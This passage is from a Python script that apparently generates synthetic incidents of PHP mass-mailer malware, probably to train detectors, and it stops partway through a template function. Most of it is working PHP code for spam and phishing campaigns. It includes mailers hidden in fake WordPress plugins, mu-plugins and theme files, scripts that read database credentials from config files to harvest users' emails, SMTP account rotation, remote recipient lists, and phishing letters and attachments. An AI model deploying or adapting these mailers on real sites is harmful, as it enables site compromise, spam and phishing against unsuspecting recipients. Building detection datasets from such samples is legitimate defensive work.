"""train7 mass mailers: invented, written blind (README.md). Each technique
returns the files of one incident; v picks the spelling."""

from t7_common import F, T, rw, hx, ip, dom, b64, gzb64, rot13, webrel, docroot, websub, webname, script, crlf, \
    oneline, wp_filler, plugin_header

SUBJ = ("Your account statement is ready", "Action required: verify your mailbox", "Invoice #@N@ overdue",
        "Delivery attempt failed", "You have (3) unread messages", "Security alert for your account",
        "Payment received - receipt attached", "Your parcel is waiting")
FROMN = ("Support Team", "Billing Department", "Account Services", "Customer Care", "Mail Administrator",
         "Service Desk", "Notifications")


def subj(r):
    return r.choice(SUBJ).replace("@N@", str(r.randint(10000, 99999)))


def letter_html(r):
    return ("<html><body><p>Dear [-emailuser-],</p><p>We noticed unusual activity on [-email-]. "
            "Please <a href=\"https://login.%s/verify?u=[-email-]&t=[-random-]\">confirm your details</a> "
            "within 24 hours.</p><p>%s</p></body></html>" % (dom(r), r.choice(FROMN)))


def pw(r):
    return r.choice(("$_POST", "$_REQUEST"))


# 1 mail() over a textarea list, loop in four shapes
def mail_textarea_loop(r, v):
    f, s, l = r.choice(("from", "sender", "fm", "realname")), r.choice(("subject", "subj", "title")), \
        r.choice(("emails", "maillist", "list", "to"))
    P = pw(r)
    if v == 0:
        loop = T("""foreach (explode("\\n", str_replace("\\r", "", @P@['@L@'])) as $i => $rcpt) {
    $rcpt = trim($rcpt);
    if ($rcpt === '') continue;
    $ok = @mail($rcpt, $subject, str_replace('[-email-]', $rcpt, $body), $headers);
    echo ($i + 1) . " " . htmlspecialchars($rcpt) . ($ok ? " <font color=green>OK</font>" : " <font color=red>FAIL</font>") . "<br>\\n";
    flush();
}""", P=P, L=l)
    elif v == 1:
        loop = T("""$tok = strtok(@P@['@L@'], "\\r\\n");
$n = 0;
while ($tok !== false) {
    $n++;
    if (mail(trim($tok), $subject, $body, $headers)) { echo "[$n] sent " . $tok . "<br>"; } else { echo "[$n] error " . $tok . "<br>"; }
    $tok = strtok("\\r\\n");
}""", P=P, L=l)
    elif v == 2:
        loop = T("""$arr = preg_split('/[\\s,;]+/', @P@['@L@'], -1, PREG_SPLIT_NO_EMPTY);
$total = count($arr);
for ($x = 0; $x < $total; $x++) {
    $m = $arr[$x];
    $hdr = $headers . "Message-ID: <" . md5(uniqid($x)) . "@" . $_SERVER['HTTP_HOST'] . ">\\r\\n";
    print(mail($m, $subject, $body, $hdr) ? "$x/$total ok $m\\n" : "$x/$total bad $m\\n");
}""", P=P, L=l)
    else:
        loop = T("""$queue = array_filter(array_map('trim', file('php://memory') ?: explode(PHP_EOL, @P@['@L@'])));
do {
    $to = array_shift($queue);
    if (!$to) break;
    $sent = mail($to, '=?UTF-8?B?' . base64_encode($subject) . '?=', $body, $headers, '-f' . $from);
    echo $sent ? '+' : '-';
} while (count($queue) > 0);""", P=P, L=l)
    code = T("""<?php
@set_time_limit(0);
@ignore_user_abort(true);
if (isset(@P@['@L@'])) {
    $from = trim(@P@['@F@']);
    $subject = stripslashes(@P@['@S@']);
    $body = stripslashes(@P@['body']);
    $headers = "From: " . $from . "\\r\\nReply-To: " . $from . "\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
@LOOP@
    exit;
}
?><html><head><title>@TITLE@</title></head><body>
<form method="post"><input name="@F@" size="40" placeholder="from"><br><input name="@S@" size="40"><br>
<textarea name="body" rows="10" cols="60"></textarea><br><textarea name="@L@" rows="10" cols="60"></textarea><br>
<input type="submit" value="Send"></form></body></html>
""", P=P, L=l, F=f, S=s, LOOP=loop, TITLE=r.choice(("Sender", "Mass", "Inbox v2", "Letter", "Postman")))
    return [F(code, webrel(r), "php", "plain")]


# 2 mail() driven by a callback iterator: array_walk, recursion, generator, array_map
def mail_callback_iter(r, v):
    lst = r.choice(("$_POST['l']", "$_POST['ml']", "$_REQUEST['emails']"))
    head = T("""<?php
error_reporting(0);
$s = base64_decode($_POST['s'] ?? '');
$b = base64_decode($_POST['b'] ?? '');
$h = 'From: ' . ($_POST['f'] ?? 'no-reply@' . $_SERVER['SERVER_NAME']) . "\\r\\nContent-type: text/html\\r\\n";
$list = preg_split('/\\R/', (string) @L@);
""", L=lst)
    if v == 0:
        body = """array_walk($list, function ($addr, $k) use ($s, $b, $h) {
    $addr = trim($addr);
    if (filter_var($addr, FILTER_VALIDATE_EMAIL)) {
        echo $k, ':', mail($addr, $s, strtr($b, array('%email%' => $addr)), $h) ? 'ok' : 'no', "\\n";
    }
});
"""
    elif v == 1:
        body = """function pass_on(array $q, $s, $b, $h, $i = 0) {
    if (!isset($q[$i])) { return $i; }
    $t = trim($q[$i]);
    if ($t !== '') { @mail($t, $s, $b, $h); echo $t . "\\n"; usleep(150000); }
    return pass_on($q, $s, $b, $h, $i + 1);
}
echo 'done ' . pass_on($list, $s, $b, $h);
"""
    elif v == 2:
        body = """function recipients(array $l) {
    foreach ($l as $x) { $x = trim($x); if (strpos($x, '@')) { yield $x; } }
}
$c = 0;
foreach (recipients($list) as $to) {
    $c += (int) mail($to, $s, str_replace('{to}', $to, $b), $h . 'X-Priority: 1' . "\\r\\n");
}
echo json_encode(array('sent' => $c));
"""
    else:
        body = """$res = array_map(fn($x) => [trim($x), mail(trim($x), $s, $b, $h)], array_filter($list, 'strlen'));
header('Content-Type: application/json');
echo json_encode(array_column($res, 1, 0));
"""
    return [F(head + body, webrel(r), "php", r.choice(("plain", "uploads")))]


# 3 list from an uploaded CSV / txt
def list_uploaded_csv(r, v):
    fld = r.choice(("list", "csv", "file", "upl"))
    if v == 0:
        rd = T("""$fh = fopen($_FILES['@F@']['tmp_name'], 'r');
while (($row = fgetcsv($fh, 1000, ',')) !== false) {
    list($email, $name) = array_pad($row, 2, '');
    $msg = str_replace(array('##name##', '##email##'), array($name, $email), $tpl);
    if (mail($email, $subj, $msg, $hdr)) { $ok++; }
}
fclose($fh);""", F=fld)
    elif v == 1:
        rd = T("""$file = new SplFileObject($_FILES['@F@']['tmp_name']);
$file->setFlags(SplFileObject::READ_CSV | SplFileObject::SKIP_EMPTY | SplFileObject::READ_AHEAD);
foreach ($file as $row) {
    $email = $row[0];
    $msg = str_replace('##name##', isset($row[1]) ? $row[1] : 'Customer', $tpl);
    $ok += mail($email, $subj, $msg, $hdr) ? 1 : 0;
}""", F=fld)
    elif v == 2:
        rd = T("""move_uploaded_file($_FILES['@F@']['tmp_name'], __DIR__ . '/.l' . session_id());
$lines = file(__DIR__ . '/.l' . session_id(), FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
foreach ($lines as $ln) {
    $cols = str_getcsv($ln, ';');
    $ok += (int) mail($cols[0], $subj, str_replace('##name##', $cols[1] ?? '', $tpl), $hdr);
}
unlink(__DIR__ . '/.l' . session_id());""", F=fld)
    else:
        rd = T("""$raw = file_get_contents($_FILES['@F@']['tmp_name']);
preg_match_all('/[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}/i', $raw, $m);
foreach (array_unique($m[0]) as $email) {
    $ok += (int) mail($email, $subj, $tpl, $hdr);
}""", F=fld)
    code = T("""<?php
session_start();
if (!empty($_FILES['@F@']['tmp_name'])) {
    set_time_limit(0);
    $subj = $_POST['subject'];
    $tpl = $_POST['letter'];
    $hdr = "From: " . $_POST['fromname'] . " <" . $_POST['frommail'] . ">\\r\\nContent-Type: text/html; charset=utf-8\\r\\n";
    $ok = 0;
    @RD@
    echo "<b>Sent: $ok</b>";
}
?>
<form method="post" enctype="multipart/form-data">
<input type="text" name="fromname"> <input type="text" name="frommail"> <input type="text" name="subject"><br>
<textarea name="letter" cols="80" rows="15"></textarea><br>
<input type="file" name="@F@"> <button>Go</button>
</form>
""", F=fld, RD=rd)
    return [F(code, webrel(r), "php", "uploads" if v % 2 else "plain")]


# 4 list fetched from a remote URL
def list_remote_url(r, v):
    u = "http://%s/%s/%s.txt" % (dom(r), rw(r, 4), hx(r, 6))
    if v == 0:
        get = T("$list = file('@U@', FILE_IGNORE_NEW_LINES);", U=u)
    elif v == 1:
        get = T("""$ch = curl_init('@U@');
curl_setopt_array($ch, array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_TIMEOUT => 30, CURLOPT_USERAGENT => 'Mozilla/5.0'));
$list = explode("\\n", curl_exec($ch));
curl_close($ch);""", U=u)
    elif v == 2:
        get = T("""$ctx = stream_context_create(array('http' => array('header' => "X-Key: @K@\\r\\n")));
$list = json_decode(file_get_contents('@U@', false, $ctx), true);""", U=u.replace(".txt", ".json"), K=hx(r, 16))
    else:
        get = T("""$list = explode(',', gzuncompress(base64_decode(file_get_contents(isset($_GET['src']) ? $_GET['src'] : '@U@'))));""", U=u)
    code = T("""<?php
ignore_user_abort(1); set_time_limit(0);
@GET@
$letter = file_get_contents('@L@');
$subject = '@S@';
foreach ($list as $to) {
    $to = trim($to);
    if (!$to) continue;
    $hd = "From: @FN@ <service@@D@>\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=\\"utf-8\\"\\r\\n";
    mail($to, $subject, str_replace('[-email-]', $to, $letter), $hd);
}
echo 'finished ' . count($list);
""", GET=get, L="http://%s/l/%s.html" % (dom(r), rw(r, 5)), S=subj(r), FN=r.choice(FROMN), D=dom(r))
    return [F(code, webrel(r), "php", "plain")]


# 5 the site's own users as the list (PDO, mysqli, $wpdb, config parse)
def list_db_table(r, v):
    if v == 0:
        q = """require dirname(__FILE__) . '/wp-config.php';
$db = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME, DB_USER, DB_PASSWORD);
$rows = $db->query('SELECT user_email, display_name FROM ' . $table_prefix . 'users')->fetchAll(PDO::FETCH_NUM);"""
    elif v == 1:
        q = """$c = file_get_contents(__DIR__ . '/configuration.php');
preg_match("/\\\\\\$user = '(.*?)'/", $c, $u); preg_match("/\\\\\\$password = '(.*?)'/", $c, $p);
preg_match("/\\\\\\$db = '(.*?)'/", $c, $d); preg_match("/\\\\\\$dbprefix = '(.*?)'/", $c, $x);
$my = mysqli_connect('localhost', $u[1], $p[1], $d[1]);
$rows = mysqli_fetch_all(mysqli_query($my, 'SELECT email, name FROM ' . $x[1] . 'users'));"""
    elif v == 2:
        q = """require_once $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
global $wpdb;
$rows = $wpdb->get_results("SELECT user_email, user_login FROM {$wpdb->users} LIMIT " . intval($_GET['o']) . ", 500", ARRAY_N);"""
    else:
        q = """$env = parse_ini_file(dirname(__DIR__) . '/.env');
$db = new mysqli($env['DB_HOST'], $env['DB_USERNAME'], $env['DB_PASSWORD'], $env['DB_DATABASE']);
$rows = array();
$res = $db->query('SELECT email, firstname FROM customer_entity');
while ($r = $res->fetch_row()) { $rows[] = $r; }"""
    code = T("""<?php
if (md5($_REQUEST['k'] ?? '') !== '@H@') { http_response_code(404); exit; }
set_time_limit(0);
@Q@
$subject = base64_decode('@S@');
$html = base64_decode('@B@');
$n = 0;
foreach ($rows as $row) {
    $msg = str_replace(array('{email}', '{name}'), array($row[0], $row[1]), $html);
    if (mail($row[0], $subject, $msg, "From: @FN@ <noreply@@D@>\\r\\nContent-Type: text/html\\r\\n")) { $n++; }
}
echo "sent:$n";
""", H=hx(r, 32), Q=q, S=b64(subj(r)), B=b64(letter_html(r)), FN=r.choice(FROMN), D=dom(r))
    return [F(code, webrel(r, sub=""), "php", "plain")]


# 6 list from argv / JSON body / cookie
def list_argv_json_cookie(r, v):
    if v == 0:
        code = T("""<?php
// usage: php @N@ list.txt letter.html "subject"
if (PHP_SAPI !== 'cli') { exit; }
list(, $lf, $tf, $subject) = $argv + array(null, 'l.txt', 'm.html', 'Hello');
$tpl = file_get_contents($tf);
$i = 0;
foreach (new SplFileObject($lf) as $addr) {
    $addr = trim($addr);
    if ($addr === '') continue;
    $from = '@FR@' . mt_rand(100, 999) . '@@D@';
    mail($addr, $subject, str_replace('%EMAIL%', $addr, $tpl), "From: $from\\r\\nContent-Type: text/html\\r\\n", "-f$from");
    fwrite(STDOUT, ++$i . " $addr\\n");
    if ($i % 50 == 0) sleep(5);
}
""", N=webname(r), FR=r.choice(("info", "support", "billing")), D=dom(r))
        return [script(r, "php", code)]
    if v == 1:
        code = """<?php
$job = json_decode(file_get_contents('php://input'), true);
if (!is_array($job) || ($job['key'] ?? '') !== '@K@') { header('HTTP/1.1 403'); die(); }
$out = array();
foreach ($job['to'] as $t) {
    $out[$t] = mail($t, $job['subject'], $job['html'], implode("\\r\\n", $job['headers']));
}
echo json_encode(array('ok' => array_sum($out), 'total' => count($out), 'host' => gethostname()));
"""
        return [F(T(code, K=hx(r, 20)), webrel(r), "php", "plain")]
    if v == 2:
        code = """<?php
if (isset($_COOKIE['@C@'])) {
    $p = unserialize(base64_decode($_COOKIE['@C@']), array('allowed_classes' => false));
    foreach ((array) $p['r'] as $to) {
        @mail($to, $p['s'], $p['m'], $p['h']);
    }
    echo count((array) $p['r']);
    exit;
}
"""
        return [F(T(code, C=rw(r, 3)), webrel(r), "php", "plain")]
    code = """<?php $d=json_decode(base64_decode($_SERVER['HTTP_X_@H@']),1);if($d){foreach($d['l'] as $e){mail($e,$d['s'],$d['b'],$d['h']);}die('@T@'.count($d['l']));} ?>
"""
    return [F(T(code, H=rw(r, 5).upper(), T=rw(r, 3)), webrel(r), "php", "one-line")]


# 7 hand-rolled SMTP with STARTTLS / AUTH LOGIN / PIPELINING
def raw_smtp_auth(r, v):
    host, user = "smtp." + dom(r), "%s@%s" % (rw(r, 5), dom(r))
    if v in (0, 1):
        opener = ("$s = fsockopen('@H@', 587, $en, $es, 15);" if v == 0 else
                  "$s = stream_socket_client('tcp://@H@:587', $en, $es, 15, STREAM_CLIENT_CONNECT);")
        code = T("""<?php
function rd($s) { $d = ''; while ($l = fgets($s, 515)) { $d .= $l; if (substr($l, 3, 1) == ' ') break; } return $d; }
function wr($s, $c) { fwrite($s, $c . "\\r\\n"); return rd($s); }
function send_one($to, $subject, $html, $from) {
    @OPEN@
    if (!$s) return false;
    rd($s);
    wr($s, 'EHLO ' . gethostname());
    wr($s, 'STARTTLS');
    stream_socket_enable_crypto($s, true, STREAM_CRYPTO_METHOD_TLS_CLIENT);
    wr($s, 'EHLO ' . gethostname());
    wr($s, 'AUTH LOGIN');
    wr($s, base64_encode('@U@'));
    wr($s, base64_encode('@P@'));
    wr($s, "MAIL FROM:<$from>");
    wr($s, "RCPT TO:<$to>");
    wr($s, 'DATA');
    $r = wr($s, "From: $from\\r\\nTo: $to\\r\\nSubject: $subject\\r\\nContent-Type: text/html\\r\\n\\r\\n$html\\r\\n.");
    wr($s, 'QUIT');
    fclose($s);
    return substr($r, 0, 3) == '250';
}
foreach (explode("\\n", $_POST['to']) as $t) {
    echo trim($t), ' ', send_one(trim($t), $_POST['s'], $_POST['m'], $_POST['f']) ? 'OK' : 'ERR', "<br>";
}
""", OPEN=T(opener, H=host), U=user, P=rw(r, 10))
        return [F(code, webrel(r), "php", "plain")]
    if v == 2:
        code = T("""<?php
// pipelined: one connection, the whole batch
$c = stream_socket_client('tls://@H@:465', $e, $m, 20);
$g = function () use ($c) { return fread($c, 4096); };
$g();
fwrite($c, "EHLO mx\\r\\n"); $cap = $g();
fwrite($c, "AUTH PLAIN " . base64_encode("\\0@U@\\0@P@") . "\\r\\n"); $g();
$batch = array_slice(file('recips.txt', FILE_IGNORE_NEW_LINES), (int) $_GET['o'], 100);
$cmds = "MAIL FROM:<@U@>\\r\\n";
foreach ($batch as $rc) { $cmds .= "RCPT TO:<" . trim($rc) . ">\\r\\n"; }
$cmds .= "DATA\\r\\n";
fwrite($c, $cmds);
usleep(500000); $g();
fwrite($c, "Subject: " . $_POST['subj'] . "\\r\\nTo: undisclosed-recipients:;\\r\\nContent-Type: text/html\\r\\n\\r\\n" . $_POST['body'] . "\\r\\n.\\r\\nQUIT\\r\\n");
echo $g();
""", H=host, U=user, P=rw(r, 10))
        return [F(code, webrel(r), "php", "plain"), F("\n".join("%s@%s" % (rw(r, 6), dom(r)) for _ in range(8)) + "\n",
                                                     webrel(r, "txt").rsplit("/", 1)[0] + "/recips.txt", "text", "list")]
    code = T("""<?php
class Xs {
    private $h;
    public function __construct($host, $port) { $this->h = fsockopen(($port == 465 ? 'ssl://' : '') . $host, $port, $n, $e, 10); $this->get(); }
    private function get() { $o = ''; while (($l = fgets($this->h)) !== false) { $o .= $l; if ($l[3] === ' ') break; } return $o; }
    public function cmd($x) { fputs($this->h, $x . "\\r\\n"); return $this->get(); }
    public function tls() { $this->cmd('STARTTLS'); return stream_socket_enable_crypto($this->h, true, STREAM_CRYPTO_METHOD_TLSv1_2_CLIENT); }
}
$acc = explode('|', $_POST['smtp']); // host|port|user|pass
$x = new Xs($acc[0], (int) $acc[1]);
$x->cmd('EHLO localhost');
if ((int) $acc[1] === 587) { $x->tls(); $x->cmd('EHLO localhost'); }
$x->cmd('AUTH LOGIN'); $x->cmd(base64_encode($acc[2])); $x->cmd(base64_encode($acc[3]));
foreach (preg_split('/\\s+/', $_POST['rcpt']) as $rc) {
    $x->cmd('RSET'); $x->cmd('MAIL FROM:<' . $acc[2] . '>'); $x->cmd('RCPT TO:<' . $rc . '>'); $x->cmd('DATA');
    echo $rc, ': ', $x->cmd("Subject: {$_POST['s']}\\r\\n\\r\\n{$_POST['b']}\\r\\n."), '<br>';
}
$x->cmd('QUIT');
""")
    return [F(code, webrel(r), "php", "uploads")]


# 8 PHPMailer bulk with SMTP account rotation
def phpmailer_bulk(r, v):
    inc = r.choice(("require 'PHPMailer/src/PHPMailer.php'; require 'PHPMailer/src/SMTP.php'; require 'PHPMailer/src/Exception.php';",
                    "require __DIR__ . '/vendor/autoload.php';", "require_once 'class.phpmailer.php'; require_once 'class.smtp.php';"))
    rot = ("$acc = $smtps[$i % count($smtps)];" if v % 2 == 0 else "$acc = $smtps[array_rand($smtps)];")
    sender = ("$mail->setFrom($acc[2], $names[array_rand($names)]);" if v < 2 else
              "$mail->From = $acc[2]; $mail->FromName = $names[mt_rand(0, count($names) - 1)]; $mail->Sender = $acc[2];")
    code = T("""<?php
@INC@
use PHPMailer\\PHPMailer\\PHPMailer;
set_time_limit(0);
$smtps = array_map(function ($l) { return explode(':', trim($l)); }, file(__DIR__ . '/@SF@'));
$names = array('@N1@', '@N2@', '@N3@');
$list = file($_FILES['emails']['tmp_name'] ?? __DIR__ . '/@LF@', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$letter = file_get_contents(__DIR__ . '/@TF@');
foreach ($list as $i => $to) {
    @ROT@
    $mail = new PHPMailer(true);
    try {
        $mail->isSMTP();
        $mail->Host = $acc[0]; $mail->Port = (int) $acc[1];
        $mail->SMTPAuth = true; $mail->Username = $acc[2]; $mail->Password = $acc[3];
        $mail->SMTPSecure = $acc[1] == 465 ? 'ssl' : 'tls';
        @SND@
        $mail->addAddress($to);
        $mail->isHTML(true);
        $mail->Subject = str_replace('[-email-]', $to, $_POST['subject'] ?? '@S@');
        $mail->Body = str_replace(array('[-email-]', '[-time-]'), array($to, date('r')), $letter);
        $mail->XMailer = ' ';
        $mail->send();
        echo "$i ok $to\\n";
    } catch (Exception $e) {
        echo "$i fail $to {$mail->ErrorInfo}\\n";
    }
}
""", INC=inc, SF=r.choice(("smtp.txt", ".s", "acc.list", "conf.dat")), LF=r.choice(("list.txt", ".m", "leads.txt")),
      TF=r.choice(("letter.html", "msg.htm", ".tpl")), N1=r.choice(FROMN), N2=r.choice(FROMN), N3=r.choice(FROMN),
      ROT=rot, SND=sender, S=subj(r))
    d = docroot(r) + "/" + r.choice(("wp-content/uploads/2024/07", "tmp", "images", "old", "wp-includes/fonts", rw(r, 6)))
    files = [F(code, d + "/" + r.choice(("index.php", "up.php", "a.php", hx(r, 6) + ".php")), "php", "plain")]
    if v >= 1:
        files.append(F("".join("smtp.%s:587:%s@%s:%s\n" % (dom(r), rw(r, 5), dom(r), rw(r, 9)) for _ in range(4)),
                       d + "/smtp-accounts.txt", "text", "list"))
    return files


# 9 framework mailers (Swift, Symfony, Laminas, Nette, CodeIgniter, Yii)
def framework_mailer(r, v):
    if v == 0:
        code = """<?php
require 'vendor/autoload.php';
$transport = (new Swift_SmtpTransport($_POST['h'], 587, 'tls'))->setUsername($_POST['u'])->setPassword($_POST['p']);
$mailer = new Swift_Mailer($transport);
$mailer->registerPlugin(new Swift_Plugins_AntiFloodPlugin(50, 10));
foreach (array_filter(explode("\\n", $_POST['list'])) as $to) {
    $m = (new Swift_Message($_POST['subject']))->setFrom(array($_POST['u'] => $_POST['name']))
        ->setTo(trim($to))->setBody(str_replace('{email}', trim($to), $_POST['html']), 'text/html');
    $m->getHeaders()->addTextHeader('X-Mailer', 'Microsoft Outlook 16.0');
    echo trim($to) . ' => ' . $mailer->send($m) . "<br>";
}
"""
    elif v == 1:
        code = """<?php
require dirname(__DIR__, 2) . '/vendor/autoload.php';
use Symfony\\Component\\Mailer\\Transport;
use Symfony\\Component\\Mailer\\Mailer;
use Symfony\\Component\\Mime\\Email;
$dsn = $_POST['dsn'] ?? 'smtp://@U@:@P@@@H@:587';
$mailer = new Mailer(Transport::fromDsn($dsn));
$to = preg_split('/[\\r\\n,]+/', $_POST['to'], -1, PREG_SPLIT_NO_EMPTY);
$done = 0;
foreach ($to as $addr) {
    $email = (new Email())->from($_POST['from'])->to(trim($addr))->subject($_POST['subj'])
        ->html(str_replace('##mail##', $addr, $_POST['letter']));
    try { $mailer->send($email); $done++; } catch (\\Throwable $e) { echo $e->getMessage(), "\\n"; }
}
echo "done $done/" . count($to);
"""
        code = T(code, U=rw(r, 5), P=rw(r, 8), H="smtp." + dom(r))
    elif v == 2:
        code = """<?php
require 'vendor/autoload.php';
use Laminas\\Mail\\Message;
use Laminas\\Mail\\Transport\\Smtp;
use Laminas\\Mail\\Transport\\SmtpOptions;
$t = new Smtp(new SmtpOptions(array('host' => '@H@', 'port' => 587, 'connection_class' => 'login',
    'connection_config' => array('username' => '@U@', 'password' => '@P@', 'ssl' => 'tls'))));
$rows = array_map('str_getcsv', file('data/@L@'));
foreach ($rows as $i => $r) {
    $m = new Message();
    $m->setEncoding('UTF-8')->addFrom('@U@', '@FN@')->addTo($r[0])->setSubject('@S@')->setBody(sprintf(file_get_contents('data/t.txt'), $r[1] ?? ''));
    $t->send($m);
    if ($i % 25 === 0) { sleep(2); }
}
"""
        code = T(code, H="smtp." + dom(r), U="%s@%s" % (rw(r, 5), dom(r)), P=rw(r, 9), L=hx(r, 6) + ".csv",
                 FN=r.choice(FROMN), S=subj(r))
    else:
        code = """<?php
// dropped into application/controllers of a CodeIgniter site
defined('BASEPATH') OR exit('No direct script access allowed');
class Sync_cache extends CI_Controller {
    public function index() {
        if ($this->input->get('t') !== '@K@') { show_404(); }
        $this->load->library('email');
        $this->email->initialize(array('protocol' => 'smtp', 'smtp_host' => $this->input->post('h'), 'smtp_user' => $this->input->post('u'),
            'smtp_pass' => $this->input->post('p'), 'smtp_port' => 587, 'smtp_crypto' => 'tls', 'mailtype' => 'html'));
        foreach (explode("\\n", $this->input->post('l')) as $rc) {
            $this->email->clear();
            $this->email->from($this->input->post('u'), $this->input->post('n'));
            $this->email->to(trim($rc));
            $this->email->subject($this->input->post('s'));
            $this->email->message($this->input->post('m'));
            echo trim($rc), $this->email->send(false) ? ' sent' : ' fail', "\\n";
        }
    }
}
"""
        code = T(code, K=hx(r, 12))
        return [F(code, docroot(r) + "/application/controllers/Sync_cache.php", "php", "app-file")]
    return [F(code, webrel(r), "php", "plain")]


# 10 wp_mail abuse inside WordPress files
def wp_mail_abuse(r, v):
    hook = r.choice(("init", "wp_loaded", "template_redirect", "parse_request"))
    fn = "_" + rw(r, 6)
    core = T("""function @FN@() {
    if (empty($_POST['@K@'])) { return; }
    $d = json_decode(base64_decode($_POST['@K@']), true);
    remove_all_filters('wp_mail_from'); remove_all_filters('wp_mail');
    add_filter('wp_mail_content_type', function () { return 'text/html'; });
    $n = 0;
    foreach ((array) $d['to'] as $to) {
        $n += wp_mail($to, $d['s'], $d['b'], array('From: ' . $d['f']));
    }
    wp_die($n, '', array('response' => 200));
}
add_action('@HOOK@', '@FN@', 1);
""", FN=fn, K=rw(r, 4), HOOK=hook)
    if v == 0:
        code = "<?php\n" + plugin_header(r, r.choice(("cache-helper-lite", "wp-perf-tools", "site-health-ext"))) + \
            "\n".join(wp_filler(r, rw(r, 3), 4)) + "\n" + core
        return [F(code, docroot(r) + "/wp-content/plugins/%s/%s.php" % (rw(r, 7), rw(r, 7)), "php", "fake-plugin")]
    if v == 1:
        filler = "\n".join(wp_filler(r, rw(r, 4), 10))
        parts = filler.split("\nfunction ")
        k = len(parts) // 2
        code = "<?php\n/**\n * Theme functions and definitions\n */\n\n" + "\nfunction ".join(parts[:k]) + "\n" + core + \
            "\nfunction " + "\nfunction ".join(parts[k:])
        return [F(code, docroot(r) + "/wp-content/themes/%s/functions.php" % r.choice(("astra-child", "oceanwp", "storefront")),
                  "php", "inject-mid")]
    if v == 2:
        code = "<?php\n" + core
        return [F(code, docroot(r) + "/wp-content/mu-plugins/%s.php" % r.choice(("0-cache", "health", "wp-options-sync")),
                  "php", "mu-plugin")]
    code = T("""<?php
define('WP_USE_THEMES', false);
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
$emails = $wpdb->get_col("SELECT meta_value FROM {$wpdb->postmeta} WHERE meta_key = '_billing_email'");
$subject = '@S@';
$msg = file_get_contents('http://@D@/tpl/@X@.html');
foreach (array_unique($emails) as $i => $e) {
    wp_mail($e, $subject, str_replace('{{email}}', $e, $msg), array('Content-Type: text/html; charset=UTF-8', 'From: @FN@ <orders@' . parse_url(home_url(), PHP_URL_HOST) . '>'));
    if ($i && $i % 100 == 0) sleep(30);
}
""", S=subj(r), D=dom(r), X=hx(r, 6), FN=r.choice(FROMN))
    return [F(code, webrel(r, sub="wp-content/uploads/2024/%02d" % r.randint(1, 12)), "php", "uploads")]


# 11 MIME multipart built by hand, attachment
def hand_mime(r, v):
    fname = r.choice(("Invoice_%d.pdf" % r.randint(1000, 9999), "Statement.html", "Document.zip", "Payment-advice.htm"))
    if v == 0:
        att = "$att = chunk_split(base64_encode(file_get_contents(__DIR__ . '/@A@')));"
    elif v == 1:
        att = "$att = chunk_split(base64_encode(base64_decode($_POST['att'])));"
    else:
        att = "$att = chunk_split(base64_encode(str_replace('{EMAIL}', $to, gzinflate(base64_decode('@G@')))));"
    code = T("""<?php
$list = explode("\\n", trim($_POST['list']));
foreach ($list as $to) {
    $to = trim($to);
    $b = '==Multipart_Boundary_x' . md5(microtime(true)) . 'x';
    @ATT@
    $h  = "From: " . $_POST['from'] . "\\r\\n";
    $h .= "MIME-Version: 1.0\\r\\nContent-Type: multipart/mixed; boundary=\\"$b\\"\\r\\n";
    $m  = "--$b\\r\\nContent-Type: text/html; charset=\\"utf-8\\"\\r\\nContent-Transfer-Encoding: 8bit\\r\\n\\r\\n" . $_POST['html'] . "\\r\\n";
    $m .= "--$b\\r\\nContent-Type: application/octet-stream; name=\\"@F@\\"\\r\\nContent-Disposition: attachment; filename=\\"@F@\\"\\r\\n";
    $m .= "Content-Transfer-Encoding: base64\\r\\n\\r\\n$att\\r\\n--$b--";
    echo $to . (mail($to, $_POST['subject'], $m, $h) ? " ok\\n" : " err\\n");
}
""", ATT=T(att, A=fname, G=gzb64("<html><body><form action='https://%s/p'>{EMAIL}</form></body></html>" % dom(r))), F=fname)
    files = [F(code, webrel(r), "php", "plain")]
    if v == 0:
        files.append(F("<html><body><h3>Payment advice</h3><p>Open to view</p><script>location='https://%s/v'</script></body></html>\n"
                       % dom(r), files[0][1].rsplit("/", 1)[0] + "/" + fname, "html", "kit-file"))
    return files


# 12 letter templates with tags and spintax (several files)
def template_spintax(r, v):
    d = docroot(r) + "/" + r.choice(("wp-content/uploads/" + rw(r, 5), "tmp/" + hx(r, 6), rw(r, 6), "cgi-bin/" + rw(r, 3)))
    spin = """function spin($t) {
    return preg_replace_callback('/\\{([^{}]*)\\}/', function ($m) { $o = explode('|', $m[1]); return $o[array_rand($o)]; }, $t);
}
"""
    tags = r.choice((("[-email-]", "[-name-]", "[-domain-]"), ("##email##", "##name##", "##domain##"),
                     ("%%EMAIL%%", "%%NAME%%", "%%DOMAIN%%"), ("{{email}}", "{{name}}", "{{domain}}")))
    code = T("""<?php
@set_time_limit(0);
@SPIN@
function fill($t, $to) {
    list($u, $d) = explode('@', $to);
    return strtr($t, array('@T1@' => $to, '@T2@' => ucfirst($u), '@T3@' => $d, '[-random-]' => substr(md5(mt_rand()), 0, 8)));
}
$cfg = parse_ini_file(__DIR__ . '/@CF@');
$letters = glob(__DIR__ . '/@LD@/*.html');
$subjects = file(__DIR__ . '/@SF@', FILE_IGNORE_NEW_LINES);
$leads = file(__DIR__ . '/@LF@', FILE_IGNORE_NEW_LINES);
$start = (int) @file_get_contents(__DIR__ . '/.pos');
for ($i = $start; $i < count($leads); $i++) {
    $to = trim($leads[$i]);
    $html = fill(spin(file_get_contents($letters[$i % count($letters)])), $to);
    $sub = fill(spin($subjects[array_rand($subjects)]), $to);
    $hd = 'From: ' . spin($cfg['fromname']) . ' <' . spin($cfg['frommail']) . ">\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
    mail($to, '=?UTF-8?B?' . base64_encode($sub) . '?=', $html, $hd);
    file_put_contents(__DIR__ . '/.pos', $i + 1);
}
""", SPIN=spin, T1=tags[0], T2=tags[1], T3=tags[2], CF=r.choice(("config.ini", "settings.ini", ".cfg")),
      LD=r.choice(("letters", "tpl", "html")), SF=r.choice(("subjects.txt", "subj.lst")), LF=r.choice(("leads.txt", "emails.txt", "m.txt")))
    letter = ("<p>{Hello|Hi|Dear} %s,</p><p>{Your|The} {mailbox|account} %s {will be|is scheduled to be} "
